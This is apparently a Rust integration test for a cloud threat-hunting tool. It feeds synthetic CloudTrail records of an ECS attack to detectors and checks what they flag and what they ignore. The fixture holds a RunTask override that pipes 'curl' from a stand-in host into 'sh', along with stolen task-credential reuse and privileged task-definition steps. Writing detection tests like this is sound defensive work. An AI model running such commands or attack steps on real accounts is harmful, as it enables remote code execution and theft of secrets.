//! `curtain hunt` over CloudTrail records joined to a register filled from EventBridge events.
//! The records follow the shapes AWS documents for each event (made up here: no real trail is
//! public for these calls); each detector's true positive and look-alike are in
//! crates/hunt/src/*.rs, this test runs them through the command.

use crate::common::*;
use serde_json::{json, Value};
use std::process::Command;

const TID: &str = "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb";

fn trail(records: Vec<Value>) -> String {
    json!({ "Records": records }).to_string()
}

fn rec(name: &str, at: &str, source: &str, ip: &str, who: Value, rp: Value, resp: Value) -> Value {
    json!({"eventVersion": "1.08", "eventName": name, "eventTime": at, "eventSource": source, "sourceIPAddress": ip,
           "userIdentity": who, "requestParameters": rp, "responseElements": resp, "eventID": format!("{name}-{at}"),
           "awsRegion": "us-west-2", "recipientAccountId": "111122223333"})
}

fn task_session() -> Value {
    json!({"type": "AssumedRole", "arn": format!("arn:aws:sts::111122223333:assumed-role/web-task/{TID}"),
           "accessKeyId": "ASIAEXAMPLETASKKEY01",
           "sessionContext": {"sessionIssuer": {"arn": "arn:aws:iam::111122223333:role/web-task"}}})
}

#[test]
fn hunt_finds_stolen_task_credentials_and_the_ecs_calls_an_attacker_makes() {
    let dir = tempfile::tempdir().unwrap();
    let db = crate::register::register_of(
        dir.path(),
        crate::register::task_events(TID, "10.0.0.139", "eni-bbbb", "2026-11-29T09:00:00Z", None),
    );

    let ecs = "ecs.amazonaws.com";
    let user = |n: &str| json!({"type": "IAMUser", "arn": format!("arn:aws:iam::111122223333:user/{n}")});
    let pipeline = json!({"type": "AssumedRole", "arn": "arn:aws:sts::111122223333:assumed-role/deploy/build-7",
                          "sessionContext": {"sessionIssuer": {"arn": "arn:aws:iam::111122223333:role/deploy"}}});
    let bad = trail(vec![
        rec(
            "AssumeRole",
            "2026-11-29T09:00:05Z",
            "sts.amazonaws.com",
            "ecs-tasks.amazonaws.com",
            json!({"type": "AWSService", "invokedBy": "ecs-tasks.amazonaws.com"}),
            json!({"roleArn": "arn:aws:iam::111122223333:role/web-task", "roleSessionName": TID}),
            json!({"credentials": {"accessKeyId": "ASIAEXAMPLETASKKEY01"}}),
        ),
        // The task itself, then the same key from elsewhere.
        rec(
            "GetObject",
            "2026-11-29T10:00:00Z",
            "s3.amazonaws.com",
            "10.0.0.139",
            task_session(),
            json!({}),
            json!(null),
        ),
        rec(
            "ListSecrets",
            "2026-11-29T10:20:00Z",
            "secretsmanager.amazonaws.com",
            "198.51.100.77",
            task_session(),
            json!({}),
            json!(null),
        ),
        rec(
            "ExecuteCommand",
            "2026-11-29T10:30:00Z",
            ecs,
            "203.0.113.10",
            user("mallory"),
            json!({"cluster": "FargateCluster", "task": TID, "container": "FargateApp", "command": "/bin/sh", "interactive": true}),
            json!(null),
        ),
        rec(
            "RunTask",
            "2026-11-29T10:40:00Z",
            ecs,
            "203.0.113.10",
            user("mallory"),
            json!({"cluster": "FargateCluster", "taskDefinition": "web:3",
                   "overrides": {"containerOverrides": [{"name": "FargateApp", "command": ["sh", "-c", "curl -s http://198.51.100.77/x | sh"]}]}}),
            json!(null),
        ),
        rec(
            "RegisterTaskDefinition",
            "2026-11-29T10:50:00Z",
            ecs,
            "203.0.113.10",
            user("mallory"),
            json!({"family": "web", "pidMode": "host", "containerDefinitions": [{"name": "app", "image": "nginx", "privileged": true}]}),
            json!(null),
        ),
        rec(
            "UpdateService",
            "2026-11-01T10:00:00Z",
            ecs,
            "ecs.amazonaws.com",
            pipeline.clone(),
            json!({"cluster": "FargateCluster", "service": "web", "taskDefinition": "web:2"}),
            json!(null),
        ),
        rec(
            "UpdateService",
            "2026-11-29T11:00:00Z",
            ecs,
            "203.0.113.10",
            user("mallory"),
            json!({"cluster": "FargateCluster", "service": "web", "taskDefinition": "web:4"}),
            json!(null),
        ),
        // A call that failed changed nothing.
        {
            let mut r = rec(
                "RunTask",
                "2026-11-29T11:05:00Z",
                ecs,
                "203.0.113.10",
                user("mallory"),
                json!({"overrides": {"containerOverrides": [{"name": "x", "command": ["id"]}]}}),
                json!(null),
            );
            r["errorCode"] = "AccessDenied".into();
            r
        },
    ]);
    let f = dir.path().join("bad.json");
    std::fs::write(&f, bad).unwrap();
    // On one timeline with a snapshot's processes and findings, in time order.
    let lab = crate::analysis::crate_dir().join("tests/fixtures/lab.tar.zst");
    let o = run(Command::new(curtain()).arg("timeline").arg(&lab).arg("--cloudtrail").arg(&f).arg("--db").arg(&db));
    let rows: Vec<Value> =
        String::from_utf8_lossy(&o.stdout).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    let cloud: Vec<&Value> = rows.iter().filter(|r| r["timestamp_desc"] == "Finding (CloudTrail event)").collect();
    assert_eq!(cloud.len(), 5, "{cloud:?}");
    assert!(cloud.iter().all(|r| r["host"] == "aws" && r["detector"].is_string()));
    assert!(rows.iter().any(|r| r["timestamp_desc"] == "Finding (process start)"));
    let times: Vec<&str> = rows.iter().map(|r| r["datetime"].as_str().unwrap()).collect();
    assert!(times.windows(2).all(|w| w[0] <= w[1]));
    let o = Command::new(curtain()).args(["hunt", "--format", "json", "--db"]).arg(&db).arg(&f).output().unwrap();
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(1), "{err}");
    assert!(err.contains("1 failed call(s) skipped"), "{err}");
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    let found: Vec<&Value> = v.as_array().or_else(|| v["findings"].as_array()).unwrap().iter().collect();
    let ids: Vec<&str> = found.iter().map(|x| x["detector"].as_str().unwrap()).collect();
    for id in [
        "task-credentials-elsewhere",
        "ecs-execute-command",
        "ecs-run-task-override",
        "ecs-privileged-task-definition",
        "ecs-unusual-deployer",
    ] {
        assert_eq!(ids.iter().filter(|i| **i == id).count(), 1, "{id} once: {ids:?}");
    }
    let stolen = found.iter().find(|x| x["detector"] == "task-credentials-elsewhere").unwrap();
    let s = stolen["summary"].as_str().unwrap();
    assert!(s.contains("198.51.100.77") && s.contains(TID) && s.contains("ListSecrets"), "{s}");
    assert_eq!(stolen["severity"], "critical");
    assert!(stolen["attack"].as_array().unwrap().iter().any(|t| t == "T1552.005"));
    assert_eq!(stolen["evidence"][0]["locator"], "eventID=ListSecrets-2026-11-29T10:20:00Z");
    // Findings in time order, as a timeline would sort them.
    let times: Vec<&str> = found.iter().map(|x| x["started_at"].as_str().unwrap()).collect();
    assert!(times.windows(2).all(|w| w[0] <= w[1]), "{times:?}");

    // The look-alikes: the task's own calls, the usual deployer, an ordinary definition.
    let fine = trail(vec![
        rec(
            "GetObject",
            "2026-11-29T10:00:00Z",
            "s3.amazonaws.com",
            "10.0.0.139",
            task_session(),
            json!({}),
            json!(null),
        ),
        rec(
            "GetObject",
            "2026-11-29T10:01:00Z",
            "s3.amazonaws.com",
            "athena.amazonaws.com",
            task_session(),
            json!({}),
            json!(null),
        ),
        rec(
            "UpdateService",
            "2026-11-01T10:00:00Z",
            ecs,
            "ecs.amazonaws.com",
            pipeline.clone(),
            json!({"cluster": "FargateCluster", "service": "web", "taskDefinition": "web:2"}),
            json!(null),
        ),
        rec(
            "UpdateService",
            "2026-11-29T11:00:00Z",
            ecs,
            "ecs.amazonaws.com",
            pipeline,
            json!({"cluster": "FargateCluster", "service": "web", "taskDefinition": "web:3"}),
            json!(null),
        ),
        rec(
            "RegisterTaskDefinition",
            "2026-11-29T10:50:00Z",
            ecs,
            "203.0.113.10",
            user("dev"),
            json!({"family": "web", "networkMode": "awsvpc", "containerDefinitions": [{"name": "app", "image": "nginx"}]}),
            json!(null),
        ),
    ]);
    let f = dir.path().join("fine.json");
    std::fs::write(&f, fine).unwrap();
    let o = Command::new(curtain()).args(["hunt", "--db"]).arg(&db).arg(&f).output().unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stdout));
    // No register: an error.
    let o = Command::new(curtain()).args(["hunt", "--db"]).arg(dir.path().join("none.db")).arg(&f).output().unwrap();
    assert_eq!(o.status.code(), Some(2));
}
